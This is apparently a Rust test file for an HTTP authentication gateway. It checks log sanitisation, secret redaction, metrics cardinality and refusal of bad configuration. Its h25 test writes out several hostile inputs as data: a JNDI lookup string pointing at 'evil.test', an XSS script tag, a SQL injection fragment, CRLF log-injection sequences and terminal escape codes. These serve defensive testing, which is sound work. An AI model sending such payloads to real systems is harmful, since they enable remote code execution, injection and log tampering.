//! H25, H26, H29: hostile input in logs, in metrics and before either.

use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::TestRunner;

use super::{SECRET, Site, configuration, token};
use crate::support::client::Client;
use crate::support::gateway::Setup;
use crate::support::upstream::Upstream;

#[test]
fn h25_every_log_line_is_one_line_of_json_and_holds_no_secret() {
    let site = Site::start();
    let token = token();
    let hostile = [
        "\"}\u{7f}{\"level\":\"fake\"",
        "\\\"\\",
        "\u{2028}\u{2029}",
        "\u{1b}[2Jx",
        "%0d%0a{\"fake\":1}",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.test}",
        "\u{202e}evil",
        "\u{feff}",
        "a\tb",
        "' OR 1=1 --",
    ];
    let mut sent = 0;
    for text in hostile {
        for bytes in [text.as_bytes().to_vec(), [text.as_bytes(), b"\xff\xfe\x80"].concat()] {
            let mut request = format!(
                "GET /open/x?token={token}&access_token={token}&q=1 HTTP/1.1\r\nHost: localhost\r\n\
                 Authorization: Bearer {token}\r\nCookie: sessionid=very-secret; t={token}\r\n\
                 Proxy-Authorization: Basic very-secret\r\nUser-Agent: "
            )
            .into_bytes();
            request.extend_from_slice(&bytes);
            request.extend_from_slice(b"\r\nReferer: https://a.test/?access_token=");
            request.extend_from_slice(token.as_bytes());
            request.extend_from_slice(b"&x=");
            request.extend_from_slice(&bytes);
            request.extend_from_slice(b"\r\n\r\n");
            let response = site.ask(&request);
            assert!(matches!(response.status, 200 | 400), "{text:?}: {}", response.status);
            sent += 1;
        }
    }
    // In the path, in the query and in what is refused.
    for target in [
        format!("/open/%22%7d%0a?{token}"),
        format!("/open/{token}"),
        format!("/private/{token}?jwt={token}&code=very-secret&password=very-secret"),
        "/open/\"x\"?\"".to_owned(),
        format!("/open/x?a=%65&id_token={token}"),
    ] {
        site.ask(format!("GET {target} HTTP/1.1\r\nHost: localhost\r\n\r\n"));
        sent += 1;
    }
    for authorization in
        ["Bearer very-secret.very-secret.very-secret", "Basic very-secret", "very-secret"]
    {
        let request =
            format!("GET /x HTTP/1.1\r\nHost: localhost\r\nAuthorization: {authorization}\r\n\r\n");
        site.ask(request);
        sent += 1;
    }
    // Panics on a line that is not JSON.
    let records = site.gateway.records(sent);
    assert_eq!(records.len(), sent);
    let signature = token.rsplit('.').next().unwrap();
    for record in &records {
        assert_eq!(record["msg"], "request");
        assert_eq!(record["level"], "info");
        let line = record.to_string();
        for secret in ["very-secret", signature, SECRET] {
            assert!(!line.contains(secret), "{line}");
        }
    }
    let log = std::fs::read_to_string(site.gateway.folder().join("access.log")).unwrap();
    assert_eq!(log.lines().count(), sent);
    let controls = |c: char| c.is_control() && c != '\n';
    assert!(!log.contains(controls), "control characters reach a terminal");
}

#[test]
fn h26_no_client_grows_the_metrics() {
    let site = Site::start();
    let series = || {
        let text = site.gateway.admin("/metrics").expect(200).text().to_owned();
        text.lines().filter(|line| !line.starts_with('#')).count()
    };
    // One of each kind, so that every series that such requests may make is there.
    let ask = |client: &mut Client, method: &str, path: &str, host: &str, agent: &str| {
        client.send(format!(
            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nContent-Length: 0\r\n\r\n"
        ));
    };
    let mut runner = TestRunner::deterministic();
    let word = "[a-z]{1,8}";
    let words = (word, word, "[A-Z]{3,7}", "[a-zA-Z0-9/;=]{1,12}");
    let mut before = 0;
    for round in 0..10 {
        let mut client = site.client();
        for _ in 0..1000 {
            let (path, host, method, agent) = words.new_tree(&mut runner).unwrap().current();
            // What may not reach the application is enough: labels are given to refusals as well.
            let method =
                if matches!(method.as_str(), "CONNECT" | "TRACE") { "GET" } else { &method };
            let path = format!("/{path}/{host}");
            ask(&mut client, method, &path, &format!("{host}.test"), &agent);
            let status = client.try_response(method).unwrap().status;
            assert!(matches!(status, 200 | 401), "{method} {path}: {status}");
        }
        if round == 0 {
            for method in ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"] {
                for path in ["/private", "/open/x"] {
                    ask(&mut client, method, path, "localhost", "x");
                    client.try_response(method).unwrap();
                }
            }
            before = series();
        }
    }
    assert_eq!(series(), before);
    let text = site.gateway.admin("/metrics").text().to_owned();
    assert!(!text.contains(".test"), "a host of a request is in a label");
    let counted: f64 = text
        .lines()
        .filter(|line| line.starts_with("portcullis_http_requests_total{"))
        .filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok())
        .sum();
    assert!(counted >= 10_000.0, "{counted}");
}

#[test]
fn h29_what_is_not_understood_does_not_start() {
    for (from, to) in [
        ("public = true", "pubilc = true"),
        ("audience = [\"api\"]", ""),
        ("upstream = \"web\"", "upstream = \"wbe\""),
        ("secret = \"${KEY}\"", "secret = \"hunter2\""),
        ("algorithms = [\"HS256\"]", "algorithms = [\"none\"]"),
        ("algorithms = [\"HS256\"]", "algorithms = [\"HS256\", \"RS256\"]"),
        ("path = \"/open/*\"", "path = \"/open/../*\""),
        ("path = \"/open/*\"", "path = \"/*\""),
        ("cert = \"server.crt\"", "cert = \"missing.crt\""),
    ] {
        let setup = Setup::new();
        crate::support::certificate::Certificate::make(setup.folder());
        let text = configuration("http://127.0.0.1:1", "");
        assert!(text.contains(from), "{from}");
        let started = setup.variable("KEY", SECRET).try_start(&text.replace(from, to));
        assert!(started.is_err(), "started with {to:?} for {from:?}");
    }
}

#[test]
fn h29_a_route_asks_for_a_token_unless_it_says_otherwise() {
    let site = Site::with(Upstream::saying("reached"), "");
    let mut client = site.client();
    for method in ["GET", "HEAD", "OPTIONS", "POST", "PURGE"] {
        for agent in ["kube-probe/1.30", "GoogleHC/1.0", "ELB-HealthChecker/2.0"] {
            client.send(format!(
                "{method} /healthz HTTP/1.1\r\nHost: localhost\r\nUser-Agent: {agent}\r\n\
                 Origin: https://a.test\r\nAccess-Control-Request-Method: GET\r\nContent-Length: 0\r\n\r\n"
            ));
            assert_eq!(client.try_response(method).unwrap().status, 401, "{method} {agent}");
        }
    }
    assert_eq!(site.upstream.count(), 0);
}
